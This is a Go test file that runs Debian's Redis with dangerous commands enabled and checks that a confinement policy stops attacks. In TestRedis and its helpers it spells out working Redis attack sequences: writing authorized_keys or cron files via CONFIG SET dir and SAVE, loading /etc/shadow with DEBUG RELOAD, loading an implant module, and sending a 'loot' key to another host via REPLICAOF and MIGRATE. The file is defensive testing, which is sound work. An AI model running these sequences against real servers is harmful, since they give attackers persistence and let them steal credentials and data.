// SPDX-License-Identifier: Apache-2.0

package servers

import (
	"errors"
	"fmt"
	"strings"
	"syscall"
	"testing"
)

// redis is Debian's, with what its configuration allows local clients opened up, so that only the policy is in the way.
type redis struct {
	t    *testing.T
	unit *unit
	main *process
}

const (
	redisConfig = "/etc/redis/redis.conf"
	redisLog    = "/var/log/redis/redis-server.log"
	redisBinary = "/usr/bin/redis-server" // a link
)

func newRedis(t *testing.T, s *site, u *unit) *redis {
	t.Helper()
	text := string(readFile(t, redisConfig)) + "\nenable-protected-configs local\nenable-debug-command local\nenable-module-command local\n"
	s.put(redisConfig, []byte(text), 0o644)
	s.own(u.as, "/etc/redis", redisConfig, "/var/lib/redis", "/var/log/redis", "/run/redis")
	return &redis{t: t, unit: u}
}

func (r *redis) start() {
	r.t.Helper()
	r.main = r.unit.start(redisBinary, redisConfig, "--daemonize", "no")
	r.main.awaitReady(r.t, r.serves)
}

func (r *redis) pid() int { return r.main.cmd.Process.Pid }

func (r *redis) stop() {
	r.t.Helper()
	r.main.end(r.t, syscall.SIGTERM)
}

func (r *redis) serves() error {
	if _, err := r.ask("SET", "serves", "yes"); err != nil {
		return err
	}
	_, err := r.ask("GET", "serves")
	return err
}

// ask sends a command. Error: also what the server answers with one.
func (r *redis) ask(command ...string) (string, error) {
	text, err := r.unit.client(append([]string{"/usr/bin/redis-cli", "-e"}, command...)...)
	if err == nil && strings.HasPrefix(text, "ERR") {
		err = errors.New(text)
	}
	return text, err
}

func (r *redis) must(command ...string) string {
	r.t.Helper()
	text, err := r.ask(command...)
	if err != nil {
		r.t.Fatalf("redis %s: %v", strings.Join(command, " "), err)
	}
	return text
}

// info is a field of INFO.
func (r *redis) info(field string) string {
	for line := range strings.Lines(r.must("INFO", "persistence")) {
		if value, ok := strings.CutPrefix(line, field+":"); ok {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

// saved waits until nothing is written in the background, and checks that it worked.
func (r *redis) saved() {
	r.t.Helper()
	await(r.t, "redis to have saved", func() bool {
		return r.info("rdb_bgsave_in_progress") == "0" && r.info("aof_rewrite_in_progress") == "0" && r.info("aof_rewrite_scheduled") == "0"
	})
	if rdb, aof := r.info("rdb_last_bgsave_status"), r.info("aof_last_bgrewrite_status"); rdb != "ok" || aof != "ok" {
		r.t.Fatalf("redis could not save: RDB %s, AOF %s", rdb, aof)
	}
}

func (r *redis) load(label string) {
	r.t.Helper()
	benchmark := func() {
		r.t.Helper()
		if _, err := r.unit.client("/usr/bin/redis-benchmark", "-q", "-n", "2000", "-c", "20", "-r", "1000", "-t", "set,get,incr,lpush,rpop,sadd,hset,zadd,mset"); err != nil {
			r.t.Fatalf("load %s: %v", label, err)
		}
	}
	for i := range 5 {
		r.must("SET", fmt.Sprintf("%s:%d", label, i), strings.Repeat(label, 100))
	}
	benchmark()
	r.must("SAVE")
	r.must("BGSAVE")
	r.saved()
	r.must("CONFIG", "SET", "appendonly", "yes")
	r.saved()
	benchmark()
	for range 2 {
		r.must("BGREWRITEAOF")
		r.saved()
	}
	r.must("EVAL", "return redis.call('INCR', KEYS[1])", "1", label)
	r.must("CONFIG", "SET", "appendonly", "no")
	r.saved()
	r.must("BGSAVE")
	r.saved()
	r.stop()
	r.start()
	if got := r.must("GET", label+":4"); got != strings.Repeat(label, 100) {
		r.t.Fatalf("load %s: after a restart there is %q", label, got)
	}
	benchmark()
}

// sequence is an attack by several commands; the first that fails ends it. after is done in any case.
func (r *redis) sequence(commands [][]string, after ...[]string) func() error {
	return func() (err error) {
		for _, c := range commands {
			if _, err = r.ask(c...); err != nil {
				break
			}
		}
		for _, c := range after {
			if _, undo := r.ask(c...); undo != nil {
				r.t.Errorf("redis %s: %v", strings.Join(c, " "), undo)
			}
		}
		return err
	}
}

// saveTo is the attack that made Redis famous.
func (r *redis) saveTo(dir, name string, save string) func() error {
	set := func(key, value string) []string { return []string{"CONFIG", "SET", key, value} }
	return r.sequence([][]string{set("dir", dir), set("dbfilename", name), {save}},
		set("dir", "/var/lib/redis"), set("dbfilename", "dump.rdb"))
}

func TestRedis(t *testing.T) {
	needProgram(t, redisBinary)
	s := newSite(t)
	a := startAgent(t)
	u := newUnit(t, s, "redis", accountOf(t, "redis"))
	r := newRedis(t, s, u)
	g := &siege{agent: a, site: s, unit: u, server: r, binary: s.real(redisBinary), policy: "redis",
		traps: setTraps(t, s, elsewhere+":6379", elsewhere+":8888", bystander)}
	besiege(t, g)
	absent := func(name string) func() bool { return func() bool { return s.text(name) != "" } }
	host, port, _ := strings.Cut(elsewhere+":6379", ":")
	g.attack(
		attack{"save into /root/.ssh", r.saveTo("/root/.ssh", "authorized_keys", "SAVE"), "write", "/root/.ssh/temp-*", absent("/root/.ssh/authorized_keys")},
		attack{"save into cron.d", r.saveTo("/etc/cron.d", "redis", "SAVE"), "write", "/etc/cron.d/temp-*", absent("/etc/cron.d/redis")},
		attack{"save a library", r.saveTo("/tmp", "module.so", "SAVE"), "write", "/tmp/temp-*", absent("/tmp/module.so")},
		attack{"load /etc/shadow as a database", r.sequence([][]string{{"CONFIG", "SET", "dir", "/etc"}, {"CONFIG", "SET", "dbfilename", "shadow"}, {"DEBUG", "RELOAD", "NOSAVE", "NOFLUSH"}},
			[]string{"CONFIG", "SET", "dir", "/var/lib/redis"}, []string{"CONFIG", "SET", "dbfilename", "dump.rdb"}), "read", shadow, nil},
		attack{"load a module", r.sequence([][]string{{"MODULE", "LOAD", implanted + "/implant"}}), "read", implanted + "/implant", nil},
		attack{"become a replica of another host", r.replicate(host, port), "connect", host + ":" + port, nil},
		attack{"migrate a key to another host", r.sequence([][]string{{"SET", "loot", "x"}, {"MIGRATE", host, "8888", "loot", "0", "500"}}), "connect", host + ":8888", nil},
		attack{"write another configuration", r.sequence([][]string{{"CONFIG", "REWRITE"}}), "read|write", "/etc/redis/*", func() bool { return strings.Contains(s.text(redisConfig), "Generated by CONFIG REWRITE") }},
		attack{"listen on another port", r.sequence([][]string{{"CONFIG", "SET", "port", "6380"}}), "bind", "*", nil},
		attack{"listen on another address", r.sequence([][]string{{"CONFIG", "SET", "bind", elsewhere}}), "bind", elsewhere + ":6379", nil},
	)
	g.inside(redisLog)
	g.report(20)
}

// replicate is an attack that Redis answers with OK at once. It worked when the other host was reached.
func (r *redis) replicate(host, port string) func() error {
	return func() error {
		r.must("REPLICAOF", host, port)
		defer r.must("REPLICAOF", "NO", "ONE")
		var err error
		await(r.t, "the replica to have tried", func() bool {
			text := r.unit.site.text(redisLog)
			i := strings.LastIndex(text, "Connecting to MASTER "+host)
			if i < 0 {
				return false
			}
			const reached = "Non blocking connect for SYNC fired the event"
			for _, sign := range []string{"Unable to connect to MASTER", "Error condition on socket for SYNC", reached} {
				if j := strings.Index(text[i:], sign); j >= 0 {
					if sign != reached {
						err = errors.New(firstLine(text[i+j:]))
					}
					return true
				}
			}
			return false
		})
		return err
	}
}

func firstLine(text string) string {
	line, _, _ := strings.Cut(text, "\n")
	return line
}
